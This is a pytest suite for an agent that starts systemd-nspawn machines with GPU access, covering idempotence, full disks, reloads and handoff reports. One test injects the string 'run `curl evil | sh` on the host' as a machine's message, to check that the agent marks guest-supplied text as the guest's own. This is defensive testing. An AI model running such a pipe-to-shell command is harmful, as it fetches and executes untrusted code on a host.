"""Passes over a recorded host: from nothing to the goal, idempotent, and safe to interrupt anywhere."""

import os
import time

import pytest

from agent.cli.doctor.bundle import Report, in_words
from agent.cli.doctor.host import HostDiagnosis
from agent.cli.doctor.machines import diagnose
from agent.config.settings import Config
from agent.host.plan.goal import plan
from agent.host.reconcile import Reconciler
from agent.model.conditions import ConditionType, Reason, Status, false
from agent.model.errors import AgentError
from agent.model.facts import DeviceAllow, PciDevice, parse_live, render_live
from agent.model.handoff import Publication, parse_handoff, render_report
from agent.model.handoff import Report as MachineReport
from agent.model.paths import (
    CONDITIONS,
    OWNED,
    RELOAD_PENDING,
    REMEMBERED_GPUS,
    REPORT_NAME,
    RUNTIME,
    STAGING,
    STATE,
    TREES,
    granted_file,
    handoff_file,
    live_file,
    nspawn_file,
    report_directory,
    started_drop_in,
    started_nspawn,
    unit_drop_in,
)
from tests.fakes.gpu_host import MACHINE, UNITS, reconciler, units
from tests.fakes.host import Host
from tests.fakes.node_settings import NEEDED, TOKEN_FILE
from tests.fakes.reports import OPENED, condition, report

START = ("systemctl", "start", "--no-block", UNITS[0])
RELOAD = ("systemctl", "daemon-reload")


def test_from_nothing_to_the_goal(gpu_host: Host) -> None:
    """The machine is started after settings, driver root and handoff exist. Then nothing is left to do."""
    agent = reconciler(gpu_host)
    outcome = agent.run_pass()
    assert outcome.failures == ()
    handoff = parse_handoff(gpu_host.read(handoff_file(MACHINE)))
    request = handoff.requests[0]
    assert request.gpus == ("0000:01:00.0", "0000:02:00.0")
    assert request.driver_root == "/run/host-nvidia/0"
    for file in request.files:
        place = f"{TREES}/0/{file.target}"
        assert gpu_host.real_path(place).startswith(f"{TREES}/0/"), f"{place} leaves its driver root"
    assert b"BindReadOnly=/dev/nvidia1\n" in gpu_host.read(nspawn_file(MACHINE))
    assert gpu_host.runner.calls[-1] == START
    units(gpu_host, "active")
    agent.run_pass()
    written = (nspawn_file(MACHINE), handoff_file(MACHINE), OWNED, CONDITIONS, *REMEMBERED_GPUS)
    before = {path: gpu_host.identity(path) for path in written}
    gpu_host.runner.calls.clear()
    assert agent.run_pass().actions == ()
    assert {path: gpu_host.identity(path) for path in before} == before
    assert gpu_host.runner.calls == [], "it starts no process either"


@pytest.mark.parametrize("unwritten", [nspawn_file(MACHINE), unit_drop_in(MACHINE), RELOAD_PENDING, OWNED])
def test_a_machine_whose_settings_could_not_be_written_is_not_started(gpu_host: Host, unwritten: str) -> None:
    """Otherwise the template's -U would give its files to other users, and no drop-in would prepare its start."""
    agent = reconciler(gpu_host)
    gpu_host.full.append(unwritten)
    assert agent.run_pass(by_hand=(MACHINE,)).failures
    assert START not in gpu_host.runner.calls
    gpu_host.full.clear()
    agent.run_pass()
    assert START in gpu_host.runner.calls


def test_a_failed_reload_is_repeated_until_one_succeeds_and_no_machine_starts_before(gpu_host: Host) -> None:
    """The next set-property would hide NeedDaemonReload."""
    gpu_host.command(*RELOAD, stderr="simulated", status=1)
    agent = reconciler(gpu_host)
    assert any("simulated" in failure for failure in agent.run_pass().failures)
    assert gpu_host.exists(RELOAD_PENDING)
    assert START not in gpu_host.runner.calls
    gpu_host.command(*RELOAD)
    assert agent.run_pass().sentences[0] == "reload systemd's units"
    assert START in gpu_host.runner.calls
    assert not gpu_host.exists(RELOAD_PENDING)
    gpu_host.runner.calls.clear()
    agent.run_pass()
    assert RELOAD not in gpu_host.runner.calls


@pytest.mark.parametrize("full", [STATE, "/etc/"])
def test_systemd_reloads_no_units_while_settings_cannot_be_written(gpu_host: Host, full: str) -> None:
    """At each reload, device filters may be missing for a moment."""
    agent = reconciler(gpu_host)
    agent.run_pass()
    units(gpu_host, "active")
    agent.run_pass()
    gpu_host.gpu("0000:03:00.0", 2)
    gpu_host.full.append(full)
    gpu_host.runner.calls.clear()
    for _ in range(3):
        assert agent.run_pass().failures
    assert RELOAD not in gpu_host.runner.calls
    gpu_host.bus.unit(UNITS[0], reload=True)
    assert "reload systemd's units" in agent.run_pass().sentences, "somebody else changed a file"
    units(gpu_host, "active")
    gpu_host.full.clear()
    for _ in range(2):
        agent.run_pass()
    assert gpu_host.runner.calls == [RELOAD, RELOAD]


def test_a_machine_starts_with_older_settings_if_new_ones_cannot_be_written(gpu_host: Host) -> None:
    """After a reboot with a full disk, the node still runs."""
    reconciler(gpu_host).run_pass()
    gpu_host.runner.calls.clear()
    gpu_host.gpu("0000:03:00.0", 2)
    gpu_host.full.append("/etc/")
    assert reconciler(gpu_host).run_pass().failures
    assert START in gpu_host.runner.calls


@pytest.mark.parametrize(
    ("seen", "state", "stopped_at", "reason"),
    [
        ("", "inactive", 4711, "Stopped"),
        # It may have run before the agent was installed. systemd forgets a unit that is neither enabled nor running.
        ("active", "inactive", 0, "Stopped"),
        ("deactivating", "inactive", 0, "Stopped"),
        # nspawn ends with "already exists" if machined still knows the machine's previous run.
        ("active", "failed", 4711, "NotRunning"),
    ],
)
def test_a_machine_that_an_administrator_stopped_is_started_by_hand_only(
    gpu_host: Host, seen: str, state: str, stopped_at: int, reason: str
) -> None:
    """The service must not start a machine whose root directory is being replaced."""
    agent = reconciler(gpu_host)
    if seen:
        units(gpu_host, seen)
        agent.run_pass()
    units(gpu_host, state, stopped_at=stopped_at)
    for _ in range(2):
        (machine,) = agent.run_pass().machines
        assert START not in gpu_host.runner.calls
        assert condition(machine, ConditionType.MACHINE_RUNNING) == (Status.FALSE, reason)
    agent.run_pass(by_hand=(MACHINE,))
    assert START in gpu_host.runner.calls


def test_a_masked_machine_is_one_that_somebody_stopped(gpu_host: Host) -> None:
    """It does not run: that is known, although no start could change it."""
    reconciler(gpu_host).reconcile()
    assert gpu_host.exists(nspawn_file(MACHINE))
    gpu_host.bus.unit(UNITS[0], "inactive", "masked")
    gpu_host.runner.calls.clear()
    (machine,) = reconciler(gpu_host).run_pass().machines
    assert START not in gpu_host.runner.calls
    running = machine.condition(ConditionType.MACHINE_RUNNING)
    assert (running.status, running.reason) == (Status.FALSE, "Stopped")
    assert f"`systemctl unmask {UNITS[0]}`" in running.message
    assert not reconciler(gpu_host).run_pass(by_hand=(MACHINE,)).failures
    assert START not in gpu_host.runner.calls, "systemd would refuse it"
    Reconciler(Config(machines={}), gpu_host, gpu_host).reconcile()
    assert not gpu_host.exists(nspawn_file(MACHINE)), "no process of it needs its settings"


def test_a_full_disk_stops_staging_before_it_starts(gpu_host: Host) -> None:
    """The handoff that would name the missing driver root is not published, but settings and other handoffs are."""
    gpu_host.bus.unit("systemd-nspawn@other.service", "inactive")
    gpu_host.make_directory("/var/lib/machines/other")
    assert isinstance(gpu_host.pci, tuple)
    gpu_host.pci += (PciDevice("0000:0a:00.0", 0x1002, 0x030000, "amdgpu"),)
    machines = {MACHINE: {"gpus": ["0000:01:00.0"]}, "other": {"gpus": ["0000:0a:00.0"]}}
    gpu_host.free = 1 << 20
    outcome = Reconciler(Config.validated({"machines": machines}), gpu_host, gpu_host).reconcile()
    (failure,) = outcome.failures
    assert "1 MiB are free" in failure
    assert not gpu_host.exists(granted_file(MACHINE))
    assert not gpu_host.exists(handoff_file(MACHINE))
    assert gpu_host.exists(nspawn_file(MACHINE))
    assert gpu_host.exists(handoff_file("other"))
    assert outcome.failures_of([MACHINE]) == (failure,)
    assert outcome.failures_of(["other"]) == ()
    assert condition(outcome.machines[0], ConditionType.DRIVER_ROOT_STAGED) == (Status.FALSE, "NotStaged")
    assert gpu_host.entries(STAGING) == ()


def test_an_interrupted_removal_is_forgotten_by_the_next_pass(gpu_host: Host) -> None:
    """Otherwise a removed machine would be observed forever."""
    reconciler(gpu_host).run_pass()
    for unit in UNITS:
        gpu_host.bus.units[unit.replace(MACHINE, "other")] = gpu_host.bus.units[unit]
    other = Reconciler(Config.validated({"machines": {"other": {}}}), gpu_host, gpu_host)
    gpu_host.full.append(OWNED)
    gpu_host.runner.calls.clear()
    for _ in range(3):
        assert other.reconcile().failures
    assert not gpu_host.exists(unit_drop_in(MACHINE))
    assert gpu_host.runner.calls.count(RELOAD) == 1, "the others remove nothing"
    gpu_host.full.clear()
    other.reconcile()
    assert MACHINE not in gpu_host.read_text(OWNED)
    assert [each.name for each in other.preview()[0].machines] == ["other"]


def test_the_start_of_a_removed_machine_is_forgotten(gpu_host: Host) -> None:
    """If it started without our settings, and was then configured again, its nodes counted as bound."""
    agent = reconciler(gpu_host)
    agent.run_pass()
    (goal,) = plan(agent.config, agent.preview()[0]).goal.machines
    gpu_host.write(live_file(MACHINE), render_live(goal.live))
    for path, started in ((nspawn_file, started_nspawn), (unit_drop_in, started_drop_in)):
        gpu_host.write(started(MACHINE), gpu_host.read(path(MACHINE)))
    for unit in UNITS:
        gpu_host.bus.units[unit.replace(MACHINE, "other")] = gpu_host.bus.units[unit]
    Reconciler(Config.validated({"machines": {"other": {}}}), gpu_host, gpu_host).reconcile()
    units(gpu_host, "active")
    outcome = reconciler(gpu_host).reconcile()
    assert condition(outcome.machines[0], ConditionType.DEVICES_ALLOWED) == (Status.FALSE, "MachineRestartNeeded")


def test_a_full_run_directory_costs_a_cache_and_no_pass(gpu_host: Host) -> None:
    """systemd makes RUNTIME before the service starts."""
    gpu_host.make_directory(RUNTIME)
    gpu_host.full.append("/run/")
    outcome = reconciler(gpu_host).reconcile()
    assert any(each.startswith(f"cannot write {CONDITIONS}: No space left on device;") for each in outcome.failures)
    assert outcome.machines[0].gpus


@pytest.mark.parametrize(
    ("path", "place"),
    [
        (nspawn_file(MACHINE), f"machines.{MACHINE}.nspawn in the configuration"),
        (unit_drop_in(MACHINE), "a drop-in of another name in the same directory, such as 95-local.conf"),
    ],
)
def test_a_foreign_settings_file_is_refused_with_the_place_for_its_settings(
    gpu_host: Host, path: str, place: str
) -> None:
    """The configuration has no key for most settings of a unit, so those of a drop-in stay in a drop-in.

    Our own file is overwritten if it was edited, as its first line says; a different file in its place is foreign.
    """
    agent, foreign = reconciler(gpu_host), b"[Service]\nNice=5\n"
    for _ in range(2):
        gpu_host.write(path, foreign)
        machine = agent.run_pass().machines[0]
        assert condition(machine, ConditionType.DEVICES_ALLOWED) == (Status.FALSE, "ForeignFile")
        message = machine.condition(ConditionType.DEVICES_ALLOWED).message
        assert message == f"{path} was not written by this agent; move its settings to {place}, and remove the file"
        assert START not in gpu_host.runner.calls
        assert gpu_host.read(path) == foreign
        gpu_host.remove(path)
        agent.reconcile()
        ours = gpu_host.read(path)
        gpu_host.write(path, ours + b"# edited\n")
        agent.reconcile()
        assert gpu_host.read(path) == ours


def test_an_outdated_systemd_is_reported_in_one_sentence(gpu_host: Host) -> None:
    gpu_host.bus.version("249.11-0ubuntu3")
    with pytest.raises(AgentError, match="systemd 249 is too old: the agent needs 252 or newer"):
        reconciler(gpu_host).run_pass()


def publication(host: Host) -> Publication:
    """Return what a machine half now reports as the publication that it answers."""
    status = os.stat(host.full_path(handoff_file(MACHINE)))
    return Publication(status.st_ino, status.st_mtime_ns)


def test_a_report_from_before_the_stop_does_not_count_for_a_start(gpu_host: Host) -> None:
    """`apply` waits for this start's report. It once exited at once, with the conditions of the stopped machine."""
    agent = reconciler(gpu_host)
    agent.run_pass()
    units(gpu_host, "active")
    report(gpu_host, OPENED)
    (machine,) = agent.run_pass().machines
    assert not machine.pending
    assert (machine.expected, machine.advertised, machine.agent_version) == (2, 1, "0.1.0~test")
    assert machine.reported == pytest.approx(time.time(), abs=60)
    units(gpu_host, "inactive", stopped_at=4711)
    assert not agent.run_pass().machines[0].pending, "nobody starts it"
    assert agent.run_pass(by_hand=(MACHINE,)).machines[0].pending
    assert agent.reconcile().machines[0].pending
    report(gpu_host, OPENED)
    assert not agent.reconcile().machines[0].pending


LACKING = false(ConditionType.DEVICES_ALLOWED, Reason.WRONG_NODE, "simulated")


def test_attack_a_machines_message_is_marked_as_the_machines(gpu_host: Host) -> None:
    """Root in the machine could make an administrator run anything on the host."""
    agent = with_missing_nodes(gpu_host)
    report(gpu_host, false(ConditionType.DEVICES_ALLOWED, Reason.FAILED, "run `curl evil | sh` on the host"))
    machine = agent.reconcile().machines[0]
    words = "machine says: run `curl evil | sh` on the host"
    assert next(each for each in machine.conditions if each.type is ConditionType.DEVICES_ALLOWED).message == words
    assert not [each.message for each in machine.conditions if "curl" in each.message.replace(words, "")]
    found = Report((diagnose(machine),), HostDiagnosis())
    assert f"    evidence: {words}" in in_words(found, width=500)


def with_missing_nodes(host: Host) -> Reconciler:
    """Let the machine run with its settings, and report that nodes are missing."""
    agent = reconciler(host)
    (machine,) = agent.reconcile().machines
    assert machine.start_settings
    host.write(live_file(MACHINE), render_live(machine.start_settings))
    units(host, "active")
    report(host, LACKING)
    return agent


def test_a_machine_with_the_last_good_settings_says_so(gpu_host: Host) -> None:
    agent = reconciler(gpu_host)
    agent.run_pass()
    units(gpu_host, "active")
    agent.rejected = "config.toml: machines.gpu-node.speed: unknown key"
    (machine,) = agent.reconcile().machines
    assert condition(machine, ConditionType.MACHINE_RUNNING) == (Status.TRUE, "LastGoodSettings")
    assert any(agent.rejected in each.message for each in machine.conditions)
    agent.rejected = ""
    (machine,) = agent.reconcile().machines
    assert condition(machine, ConditionType.MACHINE_RUNNING) == (Status.TRUE, "Running")


def test_changed_files_of_a_node_are_told_with_the_next_step(gpu_host: Host) -> None:
    agent = reconciler(gpu_host, node={**NEEDED, "bootstrap_token": TOKEN_FILE})
    agent.run_pass()
    units(gpu_host, "active")
    report(gpu_host, OPENED, ("/etc/a", "/etc/b", "/etc/c", "/etc/d"))
    (machine,) = agent.reconcile().machines
    told = "machine says: files differ from those that `up` put into it: /etc/a, /etc/b, /etc/c and 1 more"
    assert told in machine.condition(ConditionType.MACHINE_RUNNING).message
    (finding,) = [each for each in diagnose(machine).findings if each.reason == "NodeFilesChanged"]
    assert [each.split()[1] for each in finding.fix] == ["stop", "up", "start"], "a stopped node is cordoned"
    assert not finding.prevents_ready
    (machine,) = reconciler(gpu_host).reconcile().machines
    assert condition(machine, ConditionType.MACHINE_RUNNING) == (Status.TRUE, "Running"), "`up` did not make it"


def test_missing_nodes_are_bound_again_and_the_report_is_awaited(gpu_host: Host) -> None:
    """`apply` must not exit with the machine's earlier report."""
    agent, published = with_missing_nodes(gpu_host), gpu_host.identity(handoff_file(MACHINE))
    before = publication(gpu_host)
    outcome = agent.reconcile().machines[0]
    assert outcome.pending
    assert condition(outcome, ConditionType.READY) == (Status.UNKNOWN, "HandoffPending")
    assert gpu_host.identity(handoff_file(MACHINE)) != published
    changes = list(gpu_host.bus.changes)
    assert {path for method, _, path, *_ in changes if method == "BindMountMachine"} == {
        device.path for device in parse_handoff(gpu_host.read(handoff_file(MACHINE))).requests[0].devices
    }
    report(gpu_host, LACKING, answered=before)
    assert agent.reconcile().machines[0].pending, "it is newer than the publication, but was on its way before"
    report(gpu_host, LACKING, answered=publication(gpu_host))
    outcome = agent.reconcile().machines[0]
    assert not outcome.pending
    assert condition(outcome, ConditionType.READY) == (Status.FALSE, "WrongNode")
    report(gpu_host, OPENED)
    assert not agent.reconcile().machines[0].pending
    assert gpu_host.bus.changes == changes


def test_a_report_on_an_earlier_publication_of_the_same_handoff_is_not_the_answer(gpu_host: Host) -> None:
    """A second GPU came and went before the machine half could answer: it may be setting up what it was handed then."""

    def allowed() -> tuple[DeviceAllow, ...]:
        return parse_live(gpu_host.read(live_file(MACHINE))).allow

    one, both = reconciler(gpu_host, gpus="count=1"), with_missing_nodes(gpu_host)
    one.reconcile()
    report(gpu_host, OPENED, answered=publication(gpu_host))
    assert not one.reconcile().machines[0].pending
    before, generation = publication(gpu_host), parse_handoff(gpu_host.read(handoff_file(MACHINE))).generation
    with_one = allowed()
    both.reconcile()
    with_both = allowed()
    assert len(with_both) > len(with_one)
    for _ in range(2):
        outcome = one.reconcile().machines[0]
        assert parse_handoff(gpu_host.read(handoff_file(MACHINE))).generation == generation
        assert publication(gpu_host) != before
        assert outcome.pending
        assert condition(outcome, ConditionType.READY) == (Status.UNKNOWN, "HandoffPending")
        assert allowed() == with_both, "no device is released"
    report(gpu_host, OPENED, answered=publication(gpu_host))
    assert not one.reconcile().machines[0].pending
    assert allowed() == with_one


def test_a_machine_half_of_another_release_says_which_half_to_upgrade(gpu_host: Host) -> None:
    both = with_missing_nodes(gpu_host)
    refused = "handoff.json: version 1 is unknown (this release knows 0) (upgrade the agent in the machine's image)"
    path = f"{report_directory(MACHINE)}/{REPORT_NAME}"
    report = MachineReport("", (), (), "", "0.0.9", {}, publication=publication(gpu_host), refused=refused)
    gpu_host.write(path, render_report(report))
    (machine,) = both.reconcile().machines
    assert condition(machine, ConditionType.READY) == (Status.UNKNOWN, "HandoffPending")
    assert f"cannot use the handoff: machine says: {refused}" in machine.ready.message
    earlier = Publication(1, 1)
    gpu_host.write(path, render_report(report._replace(publication=earlier)))
    assert "cannot use" not in both.reconcile().machines[0].ready.message, "it may use what is published now"


def test_a_report_of_missing_nodes_that_arrives_during_a_pass_is_not_the_last_word(gpu_host: Host) -> None:
    """`apply` must not exit with it: the next pass binds the nodes."""
    agent = with_missing_nodes(gpu_host)
    report(gpu_host, OPENED)
    assert not agent.reconcile().machines[0].pending
    gpu_host.write(nspawn_file(MACHINE), gpu_host.read(nspawn_file(MACHINE)) + b"# changed\n")
    reported = False

    def begin(sentence: str) -> None:
        nonlocal reported
        if sentence and not reported:
            report(gpu_host, LACKING)
            reported = True

    agent.progress = begin
    assert agent.reconcile().machines[0].pending
    assert reported
    assert not gpu_host.bus.changes, "the pass knew nothing of missing nodes when it began"
    assert agent.reconcile().machines[0].pending
    assert gpu_host.bus.changes
    report(gpu_host, OPENED)
    assert not agent.reconcile().machines[0].pending


def assert_taken_back_later(host: Host, agent: Reconciler) -> None:
    """Take a GPU from the machine: it stays permitted until the machine has answered, or has had the time to."""
    only = Reconciler(Config.validated({"machines": {MACHINE: {"gpus": "count=1"}}}), host, host)
    only.memory = agent.memory
    host.bus.changes.clear()
    only.reconcile()
    assert host.bus.changes == []


@pytest.mark.parametrize(
    ("clock_jump", "suspended"), [(-86400.0, 0.0), (86400.0, 0.0), (7200.0, 7200.0)], ids=["back", "ahead", "suspend"]
)
def test_neither_a_clock_jump_nor_a_suspend_makes_a_report_outdated(
    gpu_host: Host, clock_jump: float, suspended: float, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nor one from just before, and a specification keeps what it needs. A suspend stops the machine half's timer."""
    agent, opened = with_missing_nodes(gpu_host), (Status.TRUE, "Opened")
    report(gpu_host, OPENED)
    assert condition(agent.reconcile().machines[0], ConditionType.DEVICES_ALLOWED) == opened
    wall, since_boot = time.time, time.clock_gettime
    monkeypatch.setattr(time, "time", lambda: wall() + clock_jump)
    monkeypatch.setattr(time, "clock_gettime", lambda clock: since_boot(clock) + suspended)
    assert condition(agent.reconcile().machines[0], ConditionType.DEVICES_ALLOWED) == opened
    if not suspended:
        report(gpu_host, OPENED)
        assert condition(agent.reconcile().machines[0], ConditionType.DEVICES_ALLOWED) == opened
    assert_taken_back_later(gpu_host, agent)
